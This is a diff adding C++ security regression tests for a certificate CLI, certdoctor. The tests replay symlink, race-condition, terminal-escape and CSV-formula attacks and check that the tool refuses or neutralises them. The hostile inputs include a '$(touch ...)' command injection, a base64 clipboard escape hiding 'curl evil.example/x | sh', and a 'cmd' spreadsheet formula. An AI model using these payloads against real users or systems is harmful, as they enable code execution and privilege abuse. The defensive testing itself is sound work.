@@ -1,0 +1,326 @@
+// The reproductions of the security review (issue 28, docs/SECURITY.md), run against the real CLI: a hostile
+// local user ("nobody") plays against an admin who runs certdoctor as root on that user's profile; scanner files
+// and backups carry terminal escapes and formulas; output files meet planted links. Each test checks that nothing
+// outside the user's own reach changed: a root-only file, a root-owned NSS database, another user's database.
+#include <catch2/catch.hpp>
+
+#include <nlohmann/json.hpp>
+#include <sys/stat.h>
+#include <unistd.h>
+
+#include <atomic>
+#include <chrono>
+#include <fstream>
+#include <thread>
+
+#include "pki.hpp"
+#include "profile.hpp"
+
+namespace fs = std::filesystem;
+using json = nlohmann::json;
+
+namespace {
+
+testing::RunResult cli(std::vector<std::string> args) {
+  args.insert(args.begin(), testing::bin("certdoctor").string());
+  return testing::run(args);
+}
+
+bool is_root() { return ::geteuid() == 0; }
+
+std::string files_of(const fs::path& profile) {
+  return testing::read_file(profile / "cert9.db") + testing::read_file(profile / "key4.db");
+}
+
+uid_t owner_of(const fs::path& p) {
+  struct stat st {};
+  REQUIRE(::lstat(p.c_str(), &st) == 0);
+  return st.st_uid;
+}
+
+// The scene of the review: a root-owned NSS database (standing in for /etc/pki/nssdb or root's own profile) holding
+// a CA, a root-only file (standing in for /root/.bashrc), and a folder the hostile user owns, where they may plant
+// what they like.
+struct Scene {
+  testing::Workspace w;  // w.profile: the root-owned database
+  testing::Issued ca = w.pki.root("ca", {.subject = "/CN=Root Owned CA"});
+  fs::path victim = w.dir / "victim" / "root-bashrc";
+  fs::path mallory = w.dir / "mallory";
+  std::string db_before, victim_before = "echo root's own file\n";
+
+  Scene() {
+    w.profile.add(ca, "root-owned-ca", "C,,");
+    ::chmod(w.dir.path().c_str(), 0755);
+    fs::create_directories(victim.parent_path());
+    ::chmod(victim.parent_path().c_str(), 0700);
+    testing::write_file(victim, victim_before);
+    ::chmod(victim.c_str(), 0600);
+    fs::create_directories(mallory / "certdoctor-backups");
+    ::chmod(mallory.c_str(), 0700);
+    ::chmod((mallory / "certdoctor-backups").c_str(), 0700);
+    db_before = files_of(w.profile.dir());
+  }
+  void give_to_nobody() const { testing::run_ok({"chown", "-hR", "nobody:nogroup", mallory.string()}); }
+  void unchanged() const {
+    CHECK(testing::read_file(victim) == victim_before);
+    CHECK(files_of(w.profile.dir()) == db_before);
+    CHECK(w.profile.holds(ca));
+  }
+};
+
+// A backup file as certdoctor writes it, with a `sha256` field chosen by the hostile user.
+std::string crafted_backup(const std::string& sha256_field) {
+  return json{{"id", "20260101T000000Z-bbbbbbbbbbbb"}, {"sha256", sha256_field}, {"nickname", "x"}, {"trust", "C,,"},
+              {"subject", "CN=x"}, {"serial", "01"}, {"removed_at", "2026-01-01T00:00:00Z"},
+              {"objects", {{"certificate", json::object()}}}}
+      .dump(2);
+}
+
+}  // namespace
+
+TEST_CASE("Security: root on a profile whose cert9.db links to a root-owned database refuses, writes nothing",
+          "[security][root]") {
+  if (!is_root()) {
+    WARN("skipped: needs root (the attack is against an admin running certdoctor as root)");
+    return;
+  }
+  Scene s;
+  fs::create_symlink(s.w.profile.dir() / "cert9.db", s.mallory / "cert9.db");
+  fs::create_symlink(s.w.profile.dir() / "key4.db", s.mallory / "key4.db");
+  fs::create_symlink(s.victim, s.mallory / "certdoctor-backups" / "journal.jsonl");
+  testing::write_file(s.mallory / "certdoctor-backups" / "20260101T000000Z-bbbbbbbbbbbb.json",
+                      crafted_backup("$(touch " + (s.w.dir / "PWNED").string() + ")"));
+  s.give_to_nobody();
+  const std::string m = s.mallory.string();
+  for (const auto& args : std::vector<std::vector<std::string>>{
+           {"undo", "--profile", m},
+           {"undo", "--profile", m, "--list"},
+           {"remove", "--profile", m, "--sha256", s.ca.sha256()},
+           {"remove", "--profile", m, "--sha256", s.ca.sha256(), "--allow-trusted"},
+           {"diagnose", "https://127.0.0.1:1/", "--profile", m, "--json"}}) {
+    auto r = cli(args);
+    INFO(args[0] << " " << r.err);
+    CHECK(r.exit_code != 0);
+    CHECK_THAT(r.err, Catch::Contains("cert9.db in " + m + " is a symbolic link"));
+  }
+  s.unchanged();
+  CHECK_FALSE(fs::exists(s.w.dir / "PWNED"));
+}
+
+TEST_CASE("Security: root never becomes a third user through a database file that user owns", "[security][root]") {
+  if (!is_root()) {
+    WARN("skipped: needs root");
+    return;
+  }
+  Scene s;
+  // A copy of a database that belongs to uid 12345 (another user's ~/.pki/nssdb), placed in nobody's profile.
+  fs::copy_file(s.w.profile.dir() / "cert9.db", s.mallory / "cert9.db");
+  fs::copy_file(s.w.profile.dir() / "key4.db", s.mallory / "key4.db");
+  s.give_to_nobody();
+  testing::run_ok({"chown", "12345:12345", (s.mallory / "cert9.db").string(), (s.mallory / "key4.db").string()});
+  const std::string theirs = files_of(s.mallory);
+  auto r = cli({"remove", "--profile", s.mallory.string(), "--sha256", s.ca.sha256(), "--allow-trusted"});
+  CHECK(r.exit_code == 1);
+  CHECK_THAT(r.err, Catch::Contains("belongs to user id 12345, the folder to user id"));
+  CHECK(files_of(s.mallory) == theirs);
+  CHECK(fs::is_empty(s.mallory / "certdoctor-backups"));
+  // A folder others may write is refused too (anyone could plant a database or a journal in it).
+  ::chmod(s.mallory.c_str(), 0777);
+  r = cli({"undo", "--profile", s.mallory.string()});
+  CHECK(r.exit_code == 1);
+  CHECK_THAT(r.err, Catch::Contains("can be changed by users other than its owner"));
+  // And the profile folder itself as a link.
+  fs::create_symlink(s.mallory, s.w.dir / "link-to-profile");
+  r = cli({"undo", "--profile", (s.w.dir / "link-to-profile").string()});
+  CHECK(r.exit_code == 1);
+  CHECK_THAT(r.err, Catch::Contains("is a symbolic link; give the folder it points to"));
+}
+
+TEST_CASE("Security: in the user's own profile, root acts as the user and writes through no planted link",
+          "[security][root]") {
+  if (!is_root()) {
+    WARN("skipped: needs root");
+    return;
+  }
+  Scene s;
+  auto dev = s.w.pki.device("dev", {.subject = "/CN=dev.test"});
+  testing::Profile theirs(s.mallory);  // a real profile of nobody's
+  theirs.add(dev, "dev.test", ",,");
+  const fs::path backups = s.mallory / "certdoctor-backups";
+  fs::create_symlink(s.victim, backups / "journal.jsonl");
+  s.give_to_nobody();
+
+  // The journal, a link to a root-only file: refused before anything is removed.
+  auto r = cli({"remove", "--profile", s.mallory.string(), "--sha256", dev.sha256()});
+  CHECK(r.exit_code == 1);
+  CHECK_THAT(r.err, Catch::Contains("journal.jsonl is a symbolic link"));
+  CHECK(theirs.holds(dev));
+  s.unchanged();
+
+  // The backup folder, a link to a folder of root's: refused; that folder keeps its mode and gets no file.
+  fs::remove(backups / "journal.jsonl");
+  fs::remove(backups);
+  const fs::path victim_dir = s.w.dir / "victimdir";
+  fs::create_directory(victim_dir);
+  ::chmod(victim_dir.c_str(), 0755);
+  fs::create_symlink(victim_dir, backups);
+  testing::run_ok({"chown", "-h", "nobody:nogroup", backups.string()});
+  r = cli({"remove", "--profile", s.mallory.string(), "--sha256", dev.sha256()});
+  CHECK(r.exit_code == 1);
+  CHECK_THAT(r.err, Catch::Contains("certdoctor-backups is a symbolic link"));
+  CHECK(fs::is_empty(victim_dir));
+  struct stat st {};
+  REQUIRE(::stat(victim_dir.c_str(), &st) == 0);
+  CHECK((st.st_mode & 07777) == 0755);
+  CHECK(theirs.holds(dev));
+
+  // Predictable temporary names, planted for the next seconds: never written through (the names are random).
+  fs::remove(backups);
+  fs::create_directory(backups);
+  ::chmod(backups.c_str(), 0700);
+  const auto now = std::chrono::system_clock::to_time_t(std::chrono::system_clock::now());
+  for (int dt = -2; dt < 30; ++dt) {
+    const std::time_t t = now + dt;
+    char stamp[32];
+    std::strftime(stamp, sizeof stamp, "%Y%m%dT%H%M%SZ", std::gmtime(&t));
+    fs::create_symlink(s.victim, backups / (std::string(stamp) + "-" + dev.sha256().substr(0, 12) + ".json.tmp"));
+  }
+  s.give_to_nobody();
+  r = cli({"remove", "--profile", s.mallory.string(), "--sha256", dev.sha256(), "--json"});
+  INFO(r.err);
+  REQUIRE(r.exit_code == 0);
+  CHECK_FALSE(theirs.holds(dev));
+  s.unchanged();
+  // As the user: every file the run left in the profile is theirs.
+  for (const auto& e : fs::recursive_directory_iterator(s.mallory)) {
+    INFO(e.path());
+    CHECK(owner_of(e.path()) != 0);
+  }
+  r = cli({"undo", "--profile", s.mallory.string(), "--json"});
+  INFO(r.err);
+  CHECK(r.exit_code == 0);
+  CHECK(theirs.holds(dev));
+  s.unchanged();
+}
+
+TEST_CASE("Security: a cert9.db link flipped thousands of times a second never lets root keep root", "[security][root]") {
+  if (!is_root()) {
+    WARN("skipped: needs root");
+    return;
+  }
+  Scene s;
+  testing::Profile theirs(s.mallory);
+  fs::create_symlink(s.victim, s.mallory / "certdoctor-backups" / "journal.jsonl");
+  fs::create_symlink(s.w.profile.dir() / "cert9.db", s.mallory / "alt");
+  s.give_to_nobody();
+  // The user swaps cert9.db between their real database and a link to root's, as fast as renames go.
+  std::atomic<bool> stop{false};
+  std::atomic<long> flips{0};
+  std::thread flipper([&] {
+    const fs::path db = s.mallory / "cert9.db", real = s.mallory / "real", alt = s.mallory / "alt";
+    while (!stop) {
+      ::rename(db.c_str(), real.c_str());
+      ::rename(alt.c_str(), db.c_str());
+      std::this_thread::sleep_for(std::chrono::microseconds(300));
+      ::rename(db.c_str(), alt.c_str());
+      ::rename(real.c_str(), db.c_str());
+      ++flips;
+    }
+  });
+  int runs = 0, refused = 0;
+  for (; runs < 40; ++runs) {
+    auto r = cli({"remove", "--profile", s.mallory.string(), "--sha256", s.ca.sha256(), "--allow-trusted"});
+    CHECK(r.exit_code != 0);  // root's CA is never reachable: the run is refused or finds nothing
+    if (r.err.find("symbolic link") != std::string::npos) ++refused;
+  }
+  stop = true;
+  flipper.join();
+  INFO(flips.load() << " flips over " << runs << " runs, " << refused << " refused on the link itself");
+  CHECK(flips.load() > runs);
+  s.unchanged();
+  for (const auto& e : fs::recursive_directory_iterator(s.mallory)) {
+    INFO(e.path());
+    CHECK(owner_of(e.path()) != 0);
+  }
+}
+
+TEST_CASE("Security: undo --list prints no escape sequence from a crafted backup", "[security]") {
+  testing::Workspace w;
+  const fs::path backups = w.profile.dir() / "certdoctor-backups";
+  fs::create_directory(backups);
+  ::chmod(backups.c_str(), 0700);
+  testing::write_file(backups / "20260101T000000Z-bbbbbbbbbbbb.json",
+                      crafted_backup("\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUveCB8IHNo\x07\x1b[2K\rOK\x1b]0;owned\x07"));
+  ::chmod((backups / "20260101T000000Z-bbbbbbbbbbbb.json").c_str(), 0600);
+  for (bool as_json : {false, true}) {
+    std::vector<std::string> args{"undo", "--profile", w.profile.dir().string(), "--list"};
+    if (as_json) args.push_back("--json");
+    auto r = cli(args);
+    INFO(r.err);
+    CHECK(r.exit_code == 0);
+    CHECK(r.out.find('\x1b') == std::string::npos);
+    CHECK(r.out.find('\x07') == std::string::npos);
+    CHECK(r.out.find("bbbbbbbbbbbb") == std::string::npos);  // not a hash: not listed at all
+  }
+}
+
+TEST_CASE("Security: audit --csv and --json from a hostile scanner file and certificate are inert", "[security]") {
+  testing::TempDir dir;
+  std::ifstream in(fs::path(CERTDOCTOR_SOURCE_DIR) / "tests/data/audit/zgrab2-fleet.jsonl");
+  std::string line;
+  REQUIRE(std::getline(in, line));
+  json record = json::parse(line);
+  record["ip"] = "\x1b]0;TITLE\x07\x1b[31m'$(touch x)'\xc2\x9b" "2J\xe2\x80\xae" "10.0.0.1;=cmd|' /C calc'!A0;";
+  record.at("data").at("tls").at("result").at("handshake_log").at("server_hello").at("version")["name"] = "TLSv1.2;=1*2";
+  testing::write_file(dir / "hostile.jsonl", record.dump() + "\n");
+  auto csv = cli({"audit", "--csv", (dir / "hostile.jsonl").string()});
+  INFO(csv.err);
+  REQUIRE(csv.out.find("endpoint,") == 0);
+  for (const char* raw : {"\x1b", "\x07", "\xc2\x9b", "\xe2\x80\xae"}) CHECK(csv.out.find(raw) == std::string::npos);
+  // No piece of any cell starts a formula, whatever separator the spreadsheet splits on.
+  for (const char* start : {";=", ",=", "\"=", ";+", ";@", "\t="}) CHECK(csv.out.find(start) == std::string::npos);
+  CHECK(csv.out.find(";'=cmd") != std::string::npos);
+  CHECK(csv.out.find("TLSv1.2;'=1*2") != std::string::npos);
+
+  auto j = cli({"audit", "--json", (dir / "hostile.jsonl").string()});
+  INFO(j.err);
+  for (const char* raw : {"\x1b", "\x07", "\xc2\x9b", "\xe2\x80\xae"}) CHECK(j.out.find(raw) == std::string::npos);
+  // The data stays exact for a parser.
+  const json report = json::parse(j.out);
+  bool found = false;
+  for (const auto& e : report.at("endpoints")) {
+    found = found || e.at("endpoint").get<std::string>().find("\xe2\x80\xae" "10.0.0.1;=cmd") != std::string::npos;
+  }
+  CHECK(found);
+}
+
+TEST_CASE("Security: audit --html and host-manifest -o never write through a planted link", "[security]") {
+  testing::TempDir dir;
+  const fs::path shared = dir / "shared";
+  fs::create_directory(shared);
+  ::chmod(shared.c_str(), 01777);
+  const fs::path victim = dir / "cfg";
+  testing::write_file(victim, "root config\n");
+  testing::write_file(dir / "targets.txt", "127.0.0.1:1\n");
+  fs::create_symlink(victim, shared / "report.html.part");
+  auto r = cli({"audit", "--html", (shared / "report.html").string(), "--connect-timeout", "1", (dir / "targets.txt").string()});
+  INFO(r.err);
+  CHECK(testing::read_file(victim) == "root config\n");
+  CHECK(fs::is_regular_file(fs::symlink_status(shared / "report.html")));
+  CHECK(testing::read_file(shared / "report.html").find("<html") != std::string::npos);
+  // The target itself a link: refused, nothing written through it.
+  fs::remove(shared / "report.html");
+  fs::create_symlink(victim, shared / "report.html");
+  r = cli({"audit", "--html", (shared / "report.html").string(), "--connect-timeout", "1", (dir / "targets.txt").string()});
+  CHECK(r.exit_code == 2);
+  CHECK_THAT(r.err, Catch::Contains("is a symbolic link; nothing was written"));
+  CHECK(testing::read_file(victim) == "root config\n");
+  fs::create_symlink(victim, shared / "manifest.json");
+  r = cli({"host-manifest", "--host-path", "/usr/lib/certdoctor/certdoctor-host", "-o", (shared / "manifest.json").string()});
+  CHECK(r.exit_code == 1);
+  CHECK_THAT(r.err, Catch::Contains("is a symbolic link; nothing was written"));
+  CHECK(testing::read_file(victim) == "root config\n");
+  r = cli({"host-manifest", "--host-path", "/usr/lib/certdoctor/certdoctor-host", "-o", (shared / "m2.json").string()});
+  CHECK(r.exit_code == 0);
+  CHECK(json::parse(testing::read_file(shared / "m2.json")).at("path") == "/usr/lib/certdoctor/certdoctor-host");
+}
